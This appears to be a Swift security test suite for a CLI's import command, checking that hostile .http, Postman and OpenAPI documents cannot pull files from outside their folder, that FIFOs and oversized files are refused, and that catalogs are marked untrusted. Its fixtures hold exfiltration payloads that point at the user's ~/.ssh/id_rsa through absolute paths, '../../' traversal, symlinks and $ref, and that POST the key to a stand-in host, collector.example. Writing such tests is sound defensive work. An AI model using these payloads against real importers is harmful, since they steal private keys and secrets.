import Foundation
import SystemSupport
import TestSupport
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// Issue 47, item 1: a document is a stranger's. Its author names files of the person importing
/// (`< /home/you/.ssh/id_rsa`, `../../x`, a link that leads out, a Postman `src`, an OpenAPI
/// `$ref`) hoping `import` copies them into a catalog that then uploads them; and hosts and
/// secrets hoping the catalog is trusted because `import` wrote it.
extension BinaryTests.SecurityTests {
    /// A private key beside the document's folder, and a file of the document's own (0600).
    struct Victim {
        let home: TemporaryDirectory
        let documents: URL
        static let key = "-----BEGIN OPENSSH PRIVATE KEY----- canary-private-key-0451"

        init() throws {
            home = try TemporaryDirectory()
            try home.write(".ssh/id_rsa", Self.key)
            chmod(home.url.appendingPathComponent(".ssh/id_rsa").path, 0o600)
            documents = home.url.appendingPathComponent("downloads/api")
            try FileManager.default.createDirectory(at: documents, withIntermediateDirectories: true)
            try Data("the document's own attachment".utf8).write(to: documents.appendingPathComponent("own.txt"))
            chmod(documents.appendingPathComponent("own.txt").path, 0o600)
            // A link inside the folder that leads out of it.
            try FileManager.default.createSymbolicLink(
                atPath: documents.appendingPathComponent("innocent.txt").path, withDestinationPath: home.url.appendingPathComponent(".ssh/id_rsa").path)
        }

        var keyPath: String { home.url.appendingPathComponent(".ssh/id_rsa").path }

        func write(_ name: String, _ text: String) throws {
            try Data(text.utf8).write(to: documents.appendingPathComponent(name))
        }

        /// Every byte the import wrote, with no trace of the key.
        func expectNoKey(in folder: TemporaryDirectory, sourceLocation: SourceLocation = #_sourceLocation) {
            let enumerator = FileManager.default.enumerator(atPath: folder.path)
            while let path = enumerator?.nextObject() as? String {
                let data = (try? Data(contentsOf: folder.url.appendingPathComponent(path))) ?? Data()
                #expect(!String(decoding: data, as: UTF8.self).contains("canary-private-key"), "\(path) holds the key", sourceLocation: sourceLocation)
            }
        }
    }

    /// The permission bits of a written file.
    static func mode(_ path: String) -> mode_t {
        var info = stat()
        return stat(path, &info) == 0 ? info.st_mode & 0o777 : 0
    }

    /// `< /abs/key`, `< ../../key`, a link that leads out, as a body and as multipart parts: none
    /// is read, each is a missing file named in the notes with its line; the document's own file
    /// comes, 0600 as it was. The catalog names a host: written untrusted.
    @Test func aHostileHTTPFileCarriesNoFileFromOutsideItsFolder() async throws {
        let victim = try Victim()
        let out = try TemporaryDirectory()
        let state = try TemporaryDirectory()
        try victim.write("evil.http", """
            ### absolute
            POST https://collector.example/a
            Content-Type: application/octet-stream

            < \(victim.keyPath)

            ### climbing
            POST https://collector.example/b

            < ../../.ssh/id_rsa

            ### linked
            POST https://collector.example/c

            < ./innocent.txt

            ### multipart
            POST https://collector.example/d
            Content-Type: multipart/form-data; boundary=B

            --B
            Content-Disposition: form-data; name="key"; filename="id_rsa"

            < ../../.ssh/id_rsa
            --B
            Content-Disposition: form-data; name="own"; filename="own.txt"

            < ./own.txt
            --B--

            ### ping
            GET https://collector.example/ping
            """)
        // Its environment file is a link out of the folder too.
        try FileManager.default.createSymbolicLink(
            atPath: victim.documents.appendingPathComponent("http-client.env.json").path, withDestinationPath: victim.home.url.appendingPathComponent(".ssh/id_rsa").path)
        let result = try await CLI.run(["import", "http", victim.documents.appendingPathComponent("evil.http").path, "--out", out.path], state: state)
        #expect(result.status == 0, "\(result.errors)")
        victim.expectNoKey(in: out)
        #expect(result.errors.contains("http-client.env.json beside the document is outside the document's folder"), "\(result.errors)")
        let notes = out.read("IMPORT-NOTES.md") ?? ""
        for line in [2, 8, 13, 18] {
            #expect(notes.contains("evil.http:\(line)"), "line \(line) is not named:\n\(notes)")
        }
        #expect(notes.contains("is outside the document's folder"), "\(notes)")
        // The document's own file is copied, no wider than it was.
        let copied = try #require(out.fileNames(in: "fixtures/evil").first { $0.contains("own") })
        #expect(out.read("fixtures/evil/\(copied)") == "the document's own attachment")
        #expect(Self.mode(out.url.appendingPathComponent("fixtures/evil/\(copied)").path) == 0o600)
        // It names a host: not trusted until the person says so, and told how.
        #expect(result.errors.contains("Not trusted"), "\(result.errors)")
        #expect(result.errors.contains("sends requests to https://collector.example"), "\(result.errors)")
        #expect(result.errors.contains("apiexplorer trust \(out.path)"), "\(result.errors)")
        let call = try await CLI.run(["call", "evil/ping", "--env", "default", "--catalog", out.path], state: state, trusting: false)
        #expect(call.status == 2, "\(call.errors)")
        #expect(call.errors.contains("is not trusted"), "\(call.errors)")
    }

    /// A Postman collection's form-data `src` and file body naming the key (absolute, climbing,
    /// Windows-style): none is read; each is named in the notes with its place.
    @Test func aHostilePostmanCollectionCarriesNoFileFromOutsideItsFolder() async throws {
        let victim = try Victim()
        let out = try TemporaryDirectory()
        let state = try TemporaryDirectory()
        try victim.write("evil.postman_collection.json", """
            {"info": {"name": "Evil", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
             "item": [
               {"name": "upload", "request": {"method": "POST", "url": "https://collector.example/up",
                 "body": {"mode": "formdata", "formdata": [
                   {"key": "a", "type": "file", "src": "\(victim.keyPath)"},
                   {"key": "b", "type": "file", "src": ["../../.ssh/id_rsa", "innocent.txt"]},
                   {"key": "c", "type": "file", "src": "C:\\\\Users\\\\you\\\\.ssh\\\\id_rsa"},
                   {"key": "d", "type": "file", "src": "own.txt"}]}}},
               {"name": "raw file", "request": {"method": "PUT", "url": "https://collector.example/put",
                 "body": {"mode": "file", "file": {"src": "../../.ssh/id_rsa"}}}}
             ]}
            """)
        let result = try await CLI.run(
            ["import", "postman", victim.documents.appendingPathComponent("evil.postman_collection.json").path, "--out", out.path], state: state)
        #expect(result.status == 0, "\(result.errors)")
        victim.expectNoKey(in: out)
        let notes = out.read("IMPORT-NOTES.md") ?? ""
        #expect(notes.contains("evil.postman_collection.json /item/0"), "\(notes)")
        #expect(notes.contains("evil.postman_collection.json /item/1"), "\(notes)")
        #expect(notes.components(separatedBy: "is outside the document's folder").count - 1 >= 2, "\(notes)")
        let catalog = out.read("evil.yaml") ?? ""
        #expect(catalog.contains("file: \"{{a_file}}\""), "\(catalog)")
        #expect(catalog.contains("bodyFile: \"{{body_file}}\""), "\(catalog)")
        let own = try #require(out.fileNames(in: "fixtures/evil").first { $0.contains("own") })
        #expect(Self.mode(out.url.appendingPathComponent("fixtures/evil/\(own)").path) == 0o600)
    }

    /// OpenAPI `$ref`s to an absolute path and up out of the folder are not read (their
    /// content never reaches a fixture); the import says where each is and exits 3.
    @Test func aHostileOpenAPIDocumentReadsNoReferencedFileFromOutsideItsFolder() async throws {
        let victim = try Victim()
        try victim.home.write("secrets.yaml", "token: canary-private-key-yaml\nnested: { value: canary-private-key-nested }\n")
        let out = try TemporaryDirectory()
        let state = try TemporaryDirectory()
        try victim.write("evil.yaml", """
            openapi: 3.0.3
            info: { title: Evil, version: "1" }
            servers: [{ url: "https://collector.example" }]
            paths:
              /a:
                get:
                  responses:
                    "200": { description: ok, content: { application/json: { schema: { $ref: "\(victim.home.path)/secrets.yaml" } } } }
              /b:
                post:
                  requestBody: { required: true, content: { application/json: { schema: { $ref: "../../secrets.yaml#/nested" } } } }
                  responses: { "204": { description: done } }
            """)
        let result = try await CLI.run(["import", "openapi", victim.documents.appendingPathComponent("evil.yaml").path, "--out", out.path], state: state)
        #expect(result.status == 3, "\(result.errors)")
        victim.expectNoKey(in: out)
        let notes = out.read("IMPORT-NOTES.md") ?? ""
        #expect(notes.contains("evil.yaml /paths/~1a/get/responses/200/content/application~1json/schema/$ref"), "\(notes)")
        #expect(notes.contains("evil.yaml /paths/~1b/post/requestBody/content/application~1json/schema/$ref"), "\(notes)")
        #expect(notes.contains("is outside the document's folder"), "\(notes)")
        // Climbing out is what a split document's parts do: the note says how to allow it; an absolute path cannot be.
        let lines = result.errors.split(separator: "\n")
        #expect(lines.contains { $0.contains("../../secrets.yaml") && $0.hasSuffix("(--root with a folder that holds both reads it)") }, "\(result.errors)")
        #expect(!lines.contains { $0.contains("\(victim.home.path)/secrets.yaml") && $0.contains("--root") }, "\(result.errors)")
    }

    /// Trust of imported catalogs: one that names a host or a secret is written untrusted (what it
    /// declares printed); `--trust` vouches for it; one that names nothing outside itself, and
    /// `import curl` of a command the person typed, stay trusted.
    @Test func anImportedCatalogIsTrustedOnlyWhenItReachesNothingOrThePersonVouches() async throws {
        try await withTestHTTPServer(handler: { _ in .ok("pong") }) { server in
            let documents = try TemporaryDirectory()
            let state = try TemporaryDirectory()
            try documents.write("remote.http", "GET \(server.baseURL.absoluteString)/ping\nAuthorization: Bearer canary-token-99\n")
            let untrusted = try TemporaryDirectory()
            let imported = try await CLI.run(["import", "http", documents.url.appendingPathComponent("remote.http").path, "--out", untrusted.path], state: state)
            #expect(imported.status == 0, "\(imported.errors)")
            #expect(imported.errors.contains("Not trusted"), "\(imported.errors)")
            #expect(imported.errors.contains("reads secret REMOTE_TOKEN"), "\(imported.errors)")
            let refused = try await CLI.run(["call", "remote/getPing", "--env", "default", "--catalog", untrusted.path], state: state, trusting: false)
            #expect(refused.status == 2, "\(refused.errors)")
            #expect(server.requestCount == 0)

            // Vouched for: trusted as written.
            let vouched = try TemporaryDirectory()
            let trusted = try await CLI.run(
                ["import", "http", documents.url.appendingPathComponent("remote.http").path, "--out", vouched.path, "--trust"], state: state)
            #expect(trusted.status == 0, "\(trusted.errors)")
            #expect(!trusted.errors.contains("Not trusted"), "\(trusted.errors)")
            let sent = try await CLI.run(
                ["call", "remote/getPing", "--env", "default", "--catalog", vouched.path], state: state,
                environment: ["APIEXPLORER_SECRET_REMOTE_TOKEN": "mine"], trusting: false)
            #expect(sent.status == 0, "\(sent.errors)")
            #expect(server.lastRequest?.header("Authorization") == "Bearer mine")

            // A GraphQL schema with the person's own --url reaches nothing else: trusted.
            try documents.write("schema.graphql", "type Query { ping: String }\n")
            let graphql = try TemporaryDirectory()
            let schema = try await CLI.run(
                ["import", "graphql", documents.url.appendingPathComponent("schema.graphql").path, "--url", "\(server.baseURL.absoluteString)/graphql", "--out", graphql.path],
                state: state)
            #expect(schema.status == 0, "\(schema.errors)")
            #expect(!schema.errors.contains("Not trusted"), "\(schema.errors)")
            let list = try await CLI.run(["trust", graphql.path], state: state, trusting: false)
            #expect(list.output.contains("trusted already"), "\(list.output)")

            // Only the mock's origin, and a value from its own earlier response: state of its own
            // (never another catalog's) is not reaching out, so it stays trusted.
            try documents.write("chained.http", """
                # @name login
                POST http://127.0.0.1:4010/login

                ###
                GET http://127.0.0.1:4010/me?session={{login.response.body.$.session}}
                """)
            let chained = try TemporaryDirectory()
            let own = try await CLI.run(["import", "http", documents.url.appendingPathComponent("chained.http").path, "--out", chained.path], state: state)
            #expect(own.status == 0, "\(own.errors)")
            #expect((chained.read("chained.yaml") ?? "").contains("{{response.login $.session}}"), "\(chained.read("chained.yaml") ?? "")")
            #expect(!own.errors.contains("Not trusted"), "\(own.errors)")
            let chainedTrust = try await CLI.run(["trust", chained.path], state: state, trusting: false)
            #expect(chainedTrust.output.contains("trusted already"), "\(chainedTrust.output)")

            // A curl command the person typed: trusted.
            let curl = try TemporaryDirectory()
            let typed = try await CLI.run(
                ["import", "curl", "curl \(server.baseURL.absoluteString)/ping", "--out", curl.url.appendingPathComponent("typed.yaml").path], state: state)
            #expect(typed.status == 0, "\(typed.errors)")
            let curlTrust = try await CLI.run(["trust", curl.path], state: state, trusting: false)
            #expect(curlTrust.output.contains("trusted already"), "\(curlTrust.output)")
        }
    }

    /// Every file an import reads is a regular file read within a limit: a FIFO named as the
    /// document, as an environment file beside it or as a `< part` is refused at once (never
    /// waited on); a document larger than an import reads is refused before it is read (a sparse
    /// file: its size costs no disk), with the limit named.
    @Test func anImportReadsNoFIFOAndNoDocumentOverItsLimit() async throws {
        let documents = try TemporaryDirectory()
        let out = try TemporaryDirectory()
        let state = try TemporaryDirectory()
        try Self.makeFIFO(documents.url.appendingPathComponent("trap.yaml").path)
        let fifo = try await Self.runReturning(["import", "openapi", documents.url.appendingPathComponent("trap.yaml").path, "--out", out.path], state: state)
        #expect(fifo.status == 2, "\(fifo.errors)")
        #expect(fifo.errors.contains("trap.yaml is not a regular file (it is a FIFO (named pipe))"), "\(fifo.errors)")

        let huge = documents.url.appendingPathComponent("huge.json").path
        #expect(FileManager.default.createFile(atPath: huge, contents: nil))
        #expect(truncate(huge, off_t(64 << 20) + 1) == 0)
        let large = try await Self.runReturning(["import", "postman", huge, "--out", out.path], state: state)
        #expect(large.status == 2, "\(large.errors)")
        #expect(large.errors.contains("huge.json holds 67108865 bytes, more than the 67108864 bytes (64 MiB) it may hold, so it is not read"), "\(large.errors)")

        // Beside a `.http` file: its environment file and a part it uploads are FIFOs.
        try documents.write("api.http", "POST http://127.0.0.1:4010/up\nContent-Type: text/plain\n\n< ./part.txt\n")
        try Self.makeFIFO(documents.url.appendingPathComponent("http-client.env.json").path)
        try Self.makeFIFO(documents.url.appendingPathComponent("part.txt").path)
        let beside = try await Self.runReturning(["import", "http", documents.url.appendingPathComponent("api.http").path, "--out", out.path], state: state)
        #expect(beside.status == 0, "\(beside.errors)")
        #expect(beside.errors.contains("http-client.env.json beside the document is not a regular file"), "\(beside.errors)")
        #expect((out.read("IMPORT-NOTES.md") ?? "").contains("api.http:1"), "\(out.read("IMPORT-NOTES.md") ?? "")")
    }

    /// `kill -9` during an import leaves a staging folder: the next import into the folder removes
    /// it. A staging folder whose writer is alive (it holds its lock) is left alone.
    @Test func aKilledImportsStagingFolderIsRemovedByTheNextOneButALiveOneStays() async throws {
        let documents = try TemporaryDirectory()
        let out = try TemporaryDirectory()
        let state = try TemporaryDirectory()
        try documents.write("a.http", "GET http://127.0.0.1:4010/a/x\n")
        // What a killed writer leaves: a staging folder it had locked (its owner file), half full, its lock gone with it.
        try out.write(".staging-Killed/.writer", "")
        try out.write(".staging-Killed/fixtures/a/half.json", "{\"half\":")
        // A live writer's: locked by this process while the import runs.
        try out.write(".staging-Living/.writer", "")
        let living = open(out.url.appendingPathComponent(".staging-Living").path, O_RDONLY | O_DIRECTORY)
        #expect(living >= 0)
        defer { close(living) }
        #expect(flock(living, LOCK_EX | LOCK_NB) == 0)
        let result = try await CLI.run(["import", "http", documents.url.appendingPathComponent("a.http").path, "--out", out.path], state: state)
        #expect(result.status == 0, "\(result.errors)")
        #expect(!out.exists(".staging-Killed"))
        #expect(out.exists(".staging-Living/.writer"))
        #expect(out.exists("a.yaml"))
        #expect(!out.fileNames().contains { $0.hasPrefix(".staging-") && $0 != ".staging-Living" })
    }
}
